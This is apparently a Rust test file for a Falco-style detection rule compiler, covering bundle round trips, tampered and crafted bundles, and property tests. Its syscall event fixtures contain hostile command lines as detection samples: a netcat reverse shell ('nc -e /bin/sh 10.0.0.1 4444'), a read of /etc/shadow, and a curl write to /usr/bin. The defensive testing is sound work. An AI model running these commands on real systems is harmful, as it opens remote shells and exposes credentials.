//! Compiled rule bundles: write/read round trips (proptest), hostile input (truncation, byte
//! flips, newer versions, crafted payloads with a valid checksum) and interpreter equivalence
//! between the original programs and the programs read back.

mod common;
use common::corpus_dir;

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use proptest::prelude::*;
use rulec::load::{Priority, Version};
use rulec::lower::{ExprId, FieldId, Node, OperandId, OperandIr};
use rulec::{Analysis, LoadOptions};
use rulec_ir::bundle::{
    global_prefilter, Bundle, BundleError, FORMAT_VERSION, MAGIC, PREAMBLE_LEN, SYSCALL_LIMIT,
};
use rulec_runtime::event::{Event, FieldMapEvent};
use rulec_runtime::extract::JsonEvent;
use rulec_runtime::interp::Interpreter;
use sha2::{Digest, Sha256};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn bundle_of(files: &[(String, String)]) -> Result<Bundle, BundleError> {
    let mut a = Analysis::new(LoadOptions::default());
    for (name, text) in files {
        a.add_file(name.clone(), text.clone());
    }
    let out = a.load();
    rulec::bundle::build(&out, &a.sources, a.options.engine_version)
}

fn rules_file() -> (String, String) {
    let p = repo().join("rules/falco-rulec_rules.yaml");
    (
        "rules/falco-rulec_rules.yaml".to_owned(),
        std::fs::read_to_string(p).expect("bundled rules readable"),
    )
}

/// The bundle of `rules/`, built once.
fn rules_bundle() -> &'static Bundle {
    static B: OnceLock<Bundle> = OnceLock::new();
    B.get_or_init(|| bundle_of(&[rules_file()]).expect("rules/ bundles"))
}

fn rules_bytes() -> &'static [u8] {
    static B: OnceLock<Vec<u8>> = OnceLock::new();
    B.get_or_init(|| rules_bundle().write())
}

/// Rewrites the checksum after editing `bytes` (to reach the decoder with crafted contents).
fn reseal(bytes: &mut [u8]) {
    let body = bytes.len() - 32;
    let sum = Sha256::digest(&bytes[..body]);
    bytes[body..].copy_from_slice(&sum);
}

fn syscall_events() -> Vec<FieldMapEvent> {
    vec![
        FieldMapEvent::syscall([
            ("evt.type", "execve"),
            ("evt.dir", "<"),
            ("proc.name", "bash"),
            ("proc.pname", "containerd-shim"),
            ("proc.cmdline", "bash -i"),
            ("container.id", "abc123"),
            ("container.image.repository", "nginx"),
            ("user.name", "root"),
        ]),
        FieldMapEvent::syscall([
            ("evt.type", "openat"),
            ("evt.dir", "<"),
            ("evt.is_open_read", "true"),
            ("evt.is_open_write", "false"),
            ("fd.typechar", "f"),
            ("fd.num", "3"),
            ("fd.name", "/etc/shadow"),
            ("fd.directory", "/etc"),
            ("proc.name", "cat"),
            ("proc.pname", "bash"),
            ("proc.cmdline", "cat /etc/shadow"),
            ("container.id", "host"),
            ("user.name", "root"),
        ]),
        FieldMapEvent::syscall([
            ("evt.type", "openat"),
            ("evt.dir", "<"),
            ("evt.is_open_read", "false"),
            ("evt.is_open_write", "true"),
            ("fd.typechar", "f"),
            ("fd.name", "/usr/bin/evil"),
            ("fd.directory", "/usr/bin"),
            ("proc.name", "curl"),
            ("proc.cmdline", "curl -o /usr/bin/evil"),
            ("container.id", "host"),
        ]),
        FieldMapEvent::syscall([
            ("evt.type", "execve"),
            ("evt.dir", "<"),
            ("evt.arg.res", "0"),
            ("proc.name", "apt-get"),
            ("proc.pname", "sh"),
            ("proc.exe", "apt-get"),
            ("proc.args", "install nc"),
            ("proc.cmdline", "apt-get install nc"),
            ("container.id", "abc123"),
            ("proc.tty", "0"),
        ]),
        FieldMapEvent::syscall([
            ("evt.type", "execve"),
            ("evt.dir", "<"),
            ("evt.arg.res", "0"),
            ("proc.name", "nc"),
            ("proc.exe", "nc"),
            ("proc.args", "-e /bin/sh 10.0.0.1 4444"),
            ("proc.cmdline", "nc -e /bin/sh 10.0.0.1 4444"),
            ("container.id", "abc123"),
            ("proc.tty", "0"),
        ]),
    ]
}

fn json_events(source: &str, file: &str) -> Vec<JsonEvent> {
    let text = std::fs::read_to_string(repo().join("testdata/events").join(file))
        .expect("testdata readable");
    JsonEvent::parse_many(source, &text).expect("valid JSON")
}

/// Per program, per event: the matching rule names and rendered outputs.
fn matches(b: &Bundle, events: &[&dyn Event]) -> Vec<Vec<(String, String)>> {
    let mut out = Vec::new();
    for p in &b.programs {
        let mut it = Interpreter::new(p);
        for e in events {
            let alerts = rulec_runtime::output::Alert::for_matches(&mut it, *e, "host");
            out.push(alerts.into_iter().map(|a| (a.rule, a.output)).collect());
        }
    }
    out
}

#[test]
fn rules_bundle_round_trips() {
    let b = rules_bundle();
    let bytes = rules_bytes();
    assert_eq!(&bytes[..8], &MAGIC);
    let r = Bundle::read(bytes).expect("reads back");
    assert_eq!(&r, b);
    assert_eq!(r.write(), bytes, "re-encoding is byte-identical");
    assert_eq!(r.rules.len(), 4);
    assert_eq!(r.programs.len(), 1);
    assert_eq!(r.header.schema_versions[0].source, "syscall");
    assert!(r.header.schema_versions[0].version.starts_with("libs "));
    assert_eq!(r.header.engine_version, "0.62.0");
    assert_eq!(r.files.len(), 1);
    assert_eq!(
        r.files[0].sha256,
        <[u8; 32]>::from(Sha256::digest(rules_file().1.as_bytes()))
    );
    // execve execveat open openat openat2 on x86_64.
    assert_eq!(r.prefilter, vec![2, 59, 257, 322, 437]);
    let shell = &r.rules[0];
    assert_eq!(shell.name, "Shell Spawned In Container");
    assert_eq!(shell.priority, Priority::Notice);
    assert_eq!(shell.syscalls, vec![59, 322]);
    assert_eq!(
        shell.event_types.as_deref(),
        Some(&["execve".to_owned(), "execveat".to_owned()][..])
    );
    assert!(shell.output_fields.contains(&"proc.cmdline".to_owned()));
    // Same matches and outputs from the programs read back.
    let evs = syscall_events();
    let evs: Vec<&dyn Event> = evs.iter().map(|e| e as &dyn Event).collect();
    let want = matches(b, &evs);
    assert_eq!(matches(&r, &evs), want);
    let fired: Vec<&str> = want.iter().flatten().map(|m| m.0.as_str()).collect();
    assert!(fired.contains(&"Shell Spawned In Container"), "{fired:?}");
    assert!(
        fired.contains(&"Sensitive File Read By Untrusted Program"),
        "{fired:?}"
    );
    assert!(fired.contains(&"Write Below Binary Directory"), "{fired:?}");
    assert!(
        fired.contains(&"Package Manager Run In Container"),
        "{fired:?}"
    );
}

#[test]
fn every_truncation_fails_cleanly() {
    let bytes = rules_bytes();
    for n in 0..bytes.len() {
        match Bundle::read(&bytes[..n]) {
            Err(BundleError::Truncated { expected, actual }) => {
                assert_eq!(actual, n as u64);
                assert!(expected > actual);
            }
            other => panic!("prefix of {n} bytes: {other:?}"),
        }
    }
    let e = Bundle::read(&bytes[..100]).expect_err("truncated");
    assert_eq!(
        e.to_string(),
        format!(
            "truncated bundle: expected {} bytes, found 100",
            bytes.len()
        )
    );
}

#[test]
fn every_byte_flip_is_detected() {
    let bytes = rules_bytes();
    let mut copy = bytes.to_vec();
    for i in 0..bytes.len() {
        for mask in [0x01u8, 0x80, 0xff] {
            copy[i] ^= mask;
            assert!(
                Bundle::read(&copy).is_err(),
                "flip {mask:#x} at {i} not detected"
            );
            copy[i] ^= mask;
        }
    }
    // A flip in the payload is a checksum mismatch with a clear message.
    copy[PREAMBLE_LEN + 200] ^= 0x10;
    let e = Bundle::read(&copy).expect_err("tampered");
    assert!(matches!(e, BundleError::ChecksumMismatch { .. }), "{e:?}");
    assert!(e
        .to_string()
        .starts_with("bundle checksum mismatch: the file is corrupt or was modified"));
}

#[test]
fn newer_version_is_refused() {
    let mut bytes = rules_bytes().to_vec();
    bytes[8..10].copy_from_slice(&3u16.to_le_bytes());
    let e = Bundle::read(&bytes).expect_err("newer");
    assert_eq!(
        e,
        BundleError::NewerVersion {
            found: 3,
            supported: FORMAT_VERSION
        }
    );
    assert_eq!(
        e.to_string(),
        format!(
            "bundle format version 3 is newer than this falco-rulec supports ({FORMAT_VERSION}): upgrade falco-rulec"
        )
    );
    // Refused before anything else is looked at (even with a bad checksum or truncated).
    assert!(matches!(
        Bundle::read(&bytes[..12]),
        Err(BundleError::NewerVersion { .. })
    ));
    bytes[8..10].copy_from_slice(&0u16.to_le_bytes());
    assert_eq!(
        Bundle::read(&bytes),
        Err(BundleError::UnsupportedVersion(0))
    );
}

#[test]
fn not_a_bundle_and_trailing_bytes() {
    assert_eq!(Bundle::read(b"- rule: x\n"), Err(BundleError::NotABundle));
    assert_eq!(
        Bundle::read(b"").map(|_| ()),
        Err(BundleError::Truncated {
            expected: 56,
            actual: 0
        })
    );
    let mut bytes = rules_bytes().to_vec();
    bytes.push(0);
    let e = Bundle::read(&bytes).expect_err("trailing");
    assert!(
        matches!(
            e,
            BundleError::Corrupt {
                section: "trailer",
                ..
            }
        ),
        "{e:?}"
    );
}

#[test]
fn unknown_flags_are_refused() {
    // Bit 0 is SIGNED (a signature block follows the payload); every other bit is unknown.
    let mut bytes = rules_bytes().to_vec();
    bytes[10] = 2;
    reseal(&mut bytes);
    assert_eq!(Bundle::read(&bytes), Err(BundleError::UnknownFlags(2)));
}

#[test]
fn corrupt_payload_reports_offset() {
    // Extra bytes inside the payload, with fixed lengths and checksum.
    let bytes = rules_bytes();
    let mut v = bytes[..bytes.len() - 32].to_vec();
    v.extend_from_slice(&[0, 0, 0]);
    let pl = u64::from_le_bytes(v[16..24].try_into().expect("8 bytes")) + 3;
    v[16..24].copy_from_slice(&pl.to_le_bytes());
    v.extend_from_slice(&[0; 32]);
    reseal(&mut v);
    match Bundle::read(&v) {
        Err(BundleError::Corrupt {
            section: "payload",
            offset,
            message,
        }) => {
            assert_eq!(offset, (bytes.len() - 32) as u64);
            assert!(message.contains("3 unexpected bytes"), "{message}");
        }
        other => panic!("{other:?}"),
    }
    // A payload cut short (lengths and checksum consistent): offset at the end of the data.
    let hl = u32::from_le_bytes(bytes[12..16].try_into().expect("4 bytes")) as usize;
    let mut v = bytes[..PREAMBLE_LEN + hl + 50].to_vec();
    v[16..24].copy_from_slice(&50u64.to_le_bytes());
    v.extend_from_slice(&[0; 32]);
    reseal(&mut v);
    let e = Bundle::read(&v).expect_err("short payload");
    match &e {
        BundleError::Corrupt {
            section: "payload",
            offset,
            ..
        } => assert!(*offset <= (PREAMBLE_LEN + hl + 50) as u64),
        other => panic!("{other:?}"),
    }
    assert!(e
        .to_string()
        .starts_with("corrupt bundle payload at byte offset "));
}

/// A crafted bundle (valid checksum) with `edit` applied must be refused by validation.
fn refused(edit: impl FnOnce(&mut Bundle)) -> BundleError {
    let mut b = rules_bundle().clone();
    edit(&mut b);
    Bundle::read(&b.write()).expect_err("crafted bundle refused")
}

#[test]
fn crafted_references_are_refused() {
    let n = rules_bundle().programs[0].nodes.len() as u32;
    let e = refused(|b| b.programs[0].rules[0].root = ExprId(n));
    assert!(matches!(e, BundleError::Invalid(_)), "{e:?}");
    // A cycle.
    let e = refused(|b| {
        let last = b.programs[0].nodes.len() - 1;
        b.programs[0].nodes[last] = Node::Not(ExprId(last as u32));
    });
    assert!(e.to_string().contains("references node"), "{e}");
    let e = refused(|b| {
        b.programs[0].operands[0] = OperandIr::Field(FieldId(9999));
    });
    assert!(e.to_string().contains("field 9999"), "{e}");
    let e = refused(|b| {
        let k = b.programs[0].operands.len() as u32;
        b.programs[0]
            .operands
            .push(OperandIr::List(vec![OperandId(k)]));
        let t = b.programs[0].operand_types[0];
        b.programs[0].operand_types.push(t);
    });
    assert!(e.to_string().contains("references operand"), "{e}");
    let e = refused(|b| b.programs[0].memo_slots = usize::MAX);
    assert!(e.to_string().contains("memo slots"), "{e}");
    let e = refused(|b| b.programs[0].memo_slot[0] = 100_000);
    assert!(e.to_string().contains("memo slot"), "{e}");
    let e = refused(|b| b.programs[0].any_type.push(77));
    assert!(e.to_string().contains("out of range"), "{e}");
    let e = refused(|b| b.programs[0].operand_types.pop().map(|_| ()).unwrap_or(()));
    assert!(e.to_string().contains("operand types"), "{e}");
    let e = refused(|b| b.programs[0].fields[0].index = 0);
    assert!(matches!(e, BundleError::SchemaMismatch { .. }), "{e:?}");
    assert!(e.to_string().contains("different syscall schema"), "{e}");
    let e = refused(|b| b.programs[0].source = "nope".into());
    assert!(e.to_string().contains("unknown event source"), "{e}");
    let e = refused(|b| b.rules[0].ir = b.rules[1].ir);
    assert!(e.to_string().contains("its IR is rule"), "{e}");
    let e = refused(|b| b.prefilter.push(500));
    assert!(e.to_string().contains("global prefilter"), "{e}");
    let e = refused(|b| b.rules[0].syscalls = vec![SYSCALL_LIMIT]);
    assert!(e.to_string().contains("out of range"), "{e}");
    // A depth bomb: a long and/not chain would overflow the interpreter's stack.
    let e = refused(|b| {
        let p = &mut b.programs[0];
        let base = p.nodes.len() as u32;
        for i in 0..5000u32 {
            let prev = if i == 0 {
                ExprId(0)
            } else {
                ExprId(base + i - 1)
            };
            p.nodes.push(if i % 2 == 0 {
                Node::Not(prev)
            } else {
                Node::And(vec![prev, ExprId(0)])
            });
            p.memo_slot.push(u32::MAX);
        }
        p.rules[0].root = ExprId(base + 4999);
    });
    assert!(e.to_string().contains("nested too deeply"), "{e}");
}

#[test]
fn refuses_loads_with_errors() {
    let e = bundle_of(&[(
        "bad.yaml".into(),
        "- rule: r\n  desc: d\n  condition: proc.name in (a b)\n  output: o\n  priority: INFO\n"
            .into(),
    )])
    .expect_err("errors");
    assert!(matches!(e, BundleError::NotBundleable(_)), "{e:?}");
    assert_eq!(
        e.to_string(),
        "cannot build a bundle: the rules have 1 load error"
    );
}

#[test]
fn corpus_bundle_round_trips_and_matches() {
    let Some(dir) = corpus_dir() else { return };
    let files: Vec<(String, String)> = [
        "falco_rules.yaml",
        "k8s_audit_rules.yaml",
        "aws_cloudtrail_rules.yaml",
    ]
    .iter()
    .filter(|f| dir.join(f).is_file())
    .map(|f| {
        (
            (*f).to_owned(),
            std::fs::read_to_string(dir.join(f)).expect("corpus readable"),
        )
    })
    .collect();
    if files.is_empty() {
        println!("skipped: no corpus rules files in {}", dir.display());
        return;
    }
    let b = bundle_of(&files).expect("corpus bundles");
    let bytes = b.write();
    let r = Bundle::read(&bytes).expect("reads back");
    assert_eq!(r, b);
    assert_eq!(r.write(), bytes);
    assert!(!r.prefilter.is_empty());
    assert_eq!(r.prefilter, global_prefilter(&r.rules));
    let sys = syscall_events();
    let k8s = json_events("k8s_audit", "k8s_audit.json");
    let ct = json_events("aws_cloudtrail", "cloudtrail.json");
    let evs: Vec<&dyn Event> = sys
        .iter()
        .map(|e| e as &dyn Event)
        .chain(k8s.iter().map(|e| e as &dyn Event))
        .chain(ct.iter().map(|e| e as &dyn Event))
        .collect();
    let want = matches(&b, &evs);
    assert!(want.iter().any(|m| !m.is_empty()), "some rule fires");
    assert_eq!(matches(&r, &evs), want);
    // Truncations of a large bundle at a few places.
    for n in [0, 7, 8, 23, 24, 200, bytes.len() / 2, bytes.len() - 1] {
        assert!(matches!(
            Bundle::read(&bytes[..n]),
            Err(BundleError::Truncated { .. })
        ));
    }
}

// ---- property tests ----

fn printable() -> impl Strategy<Value = String> {
    "[ -~]{0,24}"
}

/// Generated rule metadata: desc, output, tags, priority index, enabled, keep IR, syscalls,
/// output fields, event types.
type MetaEdit = (
    String,
    String,
    Vec<String>,
    usize,
    bool,
    bool,
    Vec<u16>,
    Vec<String>,
    Option<Vec<String>>,
);

prop_compose! {
    fn rule_meta_edit()(
        desc in "\\PC{0,40}",
        output in "\\PC{0,40}",
        tags in proptest::collection::vec("[a-z_]{1,8}", 0..4),
        prio in 0usize..8,
        enabled in any::<bool>(),
        keep_ir in any::<bool>(),
        syscalls in proptest::collection::btree_set(0u16..SYSCALL_LIMIT, 0..20),
        fields in proptest::collection::vec("[a-z.]{1,12}", 0..4),
        types in proptest::option::of(proptest::collection::vec("[a-z0-9_]{1,10}", 0..5)),
    ) -> MetaEdit {
        (desc, output, tags, prio, enabled, keep_ir, syscalls.into_iter().collect(), fields, types)
    }
}

fn atom() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("evt.type = open".to_owned()),
        Just("evt.type in (execve, openat, connect)".to_owned()),
        "[a-z]{1,6}".prop_map(|s| format!("proc.name = {s}")),
        "[a-z]{1,6}".prop_map(|s| format!("proc.cmdline contains \"{s}\"")),
        Just("proc.name in (a, b, c, d, e, f, g)".to_owned()),
        Just("fd.name startswith /etc".to_owned()),
        Just("fd.name pmatch (/etc, /usr/bin)".to_owned()),
        Just("proc.cmdline regex 'ab+c.*'".to_owned()),
        (0u32..10_000).prop_map(|n| format!("proc.pid > {n}")),
        Just("fd.sip in (10.0.0.1, 192.168.1.1)".to_owned()),
        Just("tolower(proc.name) = bash".to_owned()),
        Just("proc.aname[2] exists".to_owned()),
    ]
}

fn condition() -> impl Strategy<Value = String> {
    atom().prop_recursive(3, 12, 3, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 2..4)
                .prop_map(|v| format!("({})", v.join(" and "))),
            proptest::collection::vec(inner.clone(), 2..4)
                .prop_map(|v| format!("({})", v.join(" or "))),
            inner.prop_map(|c| format!("not {c}")),
        ]
    })
}

prop_compose! {
    fn rules_text()(
        rules in proptest::collection::vec(
            (condition(), "[!-~][ -~]{0,23}", 0usize..8, any::<bool>(),
             proptest::collection::vec("[a-z]{1,6}", 0..3), "[a-z ]{0,10}"),
            1..5),
        k8s in proptest::option::of("[a-z]{1,6}"),
    ) -> String {
        let mut s = String::new();
        for (i, (cond, desc, prio, enabled, tags, out)) in rules.iter().enumerate() {
            s.push_str(&format!(
                "- rule: Rule {i}\n  desc: {}\n  condition: {}\n  output: \"{out} %proc.name %fd.name\"\n  priority: {}\n  enabled: {enabled}\n  tags: [{}]\n",
                serde_json::to_string(desc).expect("json string"),
                serde_json::to_string(cond).expect("json string"),
                Priority::ALL[*prio].as_str(),
                tags.join(", "),
            ));
        }
        if let Some(v) = k8s {
            s.push_str(&format!(
                "- rule: K8s {v}\n  desc: d\n  condition: ka.verb in (create, {v}) and ka.target.resource = pods\n  output: \"%ka.user.name did %ka.verb\"\n  priority: WARNING\n  source: k8s_audit\n"
            ));
        }
        s
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    /// Bundles of generated rules files round-trip exactly and evaluate identically.
    #[test]
    fn generated_rules_round_trip(text in rules_text()) {
        let b = bundle_of(&[("gen.yaml".to_owned(), text.clone())]);
        let b = match b {
            Ok(b) => b,
            Err(e) => return Err(TestCaseError::fail(format!("{e}\n{text}"))),
        };
        let bytes = b.write();
        let r = Bundle::read(&bytes).map_err(|e| TestCaseError::fail(e.to_string()))?;
        prop_assert_eq!(&r, &b);
        prop_assert_eq!(r.write(), bytes);
        let evs = syscall_events();
        let evs: Vec<&dyn Event> = evs.iter().map(|e| e as &dyn Event).collect();
        prop_assert_eq!(matches(&r, &evs), matches(&b, &evs));
    }

    /// Generated metadata around the bundled rules' programs round-trips exactly.
    #[test]
    fn generated_metadata_round_trip(
        compiler in printable(),
        engine in printable(),
        schemas in proptest::collection::vec((printable(), "\\PC{0,30}"), 0..4),
        files in proptest::collection::vec(("\\PC{0,30}", any::<u64>(), any::<[u8; 32]>()), 0..4),
        edits in proptest::collection::vec(rule_meta_edit(), 4),
        extra in proptest::collection::vec(("\\PC{0,20}", rule_meta_edit()), 0..4),
    ) {
        let mut b = rules_bundle().clone();
        b.header.compiler_version = compiler;
        b.header.engine_version = engine;
        b.header.schema_versions = schemas
            .into_iter()
            .map(|(source, version)| rulec_ir::bundle::SchemaVersion { source, version })
            .collect();
        b.files = files
            .into_iter()
            .map(|(name, size, sha256)| rulec_ir::bundle::SourceFile { name, size, sha256 })
            .collect();
        let apply = |m: &mut rulec_ir::bundle::RuleMeta,
                     e: MetaEdit| {
            m.desc = e.0;
            m.output = e.1;
            m.tags = e.2;
            m.priority = Priority::ALL[e.3];
            m.enabled = e.4;
            if !e.5 {
                m.ir = None;
            }
            m.syscalls = e.6;
            m.output_fields = e.7;
            m.event_types = e.8;
        };
        for (m, e) in b.rules.iter_mut().zip(edits) {
            apply(m, e);
        }
        for (name, e) in extra {
            let mut m = b.rules[0].clone();
            m.name = name;
            m.ir = None;
            apply(&mut m, e);
            b.rules.push(m);
        }
        b.prefilter = global_prefilter(&b.rules);
        let bytes = b.write();
        let r = Bundle::read(&bytes).map_err(|e| TestCaseError::fail(e.to_string()))?;
        prop_assert_eq!(&r, &b);
        prop_assert_eq!(r.write(), bytes);
    }

    /// Hostile payloads with a valid checksum never panic the reader, and whatever it accepts
    /// is safe to interpret.
    #[test]
    fn mutated_payload_never_panics(
        edits in proptest::collection::vec((any::<proptest::sample::Index>(), any::<u8>()), 1..8),
        cut in proptest::option::of(any::<proptest::sample::Index>()),
    ) {
        let bytes = rules_bytes();
        let mut v = bytes[..bytes.len() - 32].to_vec();
        for (i, x) in edits {
            let at = PREAMBLE_LEN + i.index(v.len() - PREAMBLE_LEN);
            v[at] = x;
        }
        if let Some(c) = cut {
            let hl = u32::from_le_bytes(v[12..16].try_into().expect("4 bytes")) as usize;
            let keep = PREAMBLE_LEN + hl + c.index(v.len() - PREAMBLE_LEN - hl);
            v.truncate(keep);
            let pl = (keep - PREAMBLE_LEN - hl) as u64;
            v[16..24].copy_from_slice(&pl.to_le_bytes());
        }
        // Keep the lengths consistent with the data so the decoder is reached.
        let hl = u32::from_le_bytes(v[12..16].try_into().expect("4 bytes")) as usize;
        if PREAMBLE_LEN + hl > v.len() {
            let max = (v.len() - PREAMBLE_LEN) as u32;
            v[12..16].copy_from_slice(&max.to_le_bytes());
        }
        let hl = u32::from_le_bytes(v[12..16].try_into().expect("4 bytes")) as usize;
        let pl = (v.len() - PREAMBLE_LEN - hl) as u64;
        v[16..24].copy_from_slice(&pl.to_le_bytes());
        v.extend_from_slice(&[0; 32]);
        reseal(&mut v);
        if let Ok(b) = Bundle::read(&v) {
            let evs = syscall_events();
            let evs: Vec<&dyn Event> = evs.iter().map(|e| e as &dyn Event).collect();
            let _ = matches(&b, &evs);
        }
    }
}

#[test]
fn engine_version_is_recorded() {
    let mut a = Analysis::new(LoadOptions {
        engine_version: Version(0, 60, 2),
        ..LoadOptions::default()
    });
    let (n, t) = rules_file();
    a.add_file(n, t);
    let out = a.load();
    let b = rulec::bundle::build(&out, &a.sources, a.options.engine_version).expect("bundles");
    assert_eq!(b.header.engine_version, "0.60.2");
}
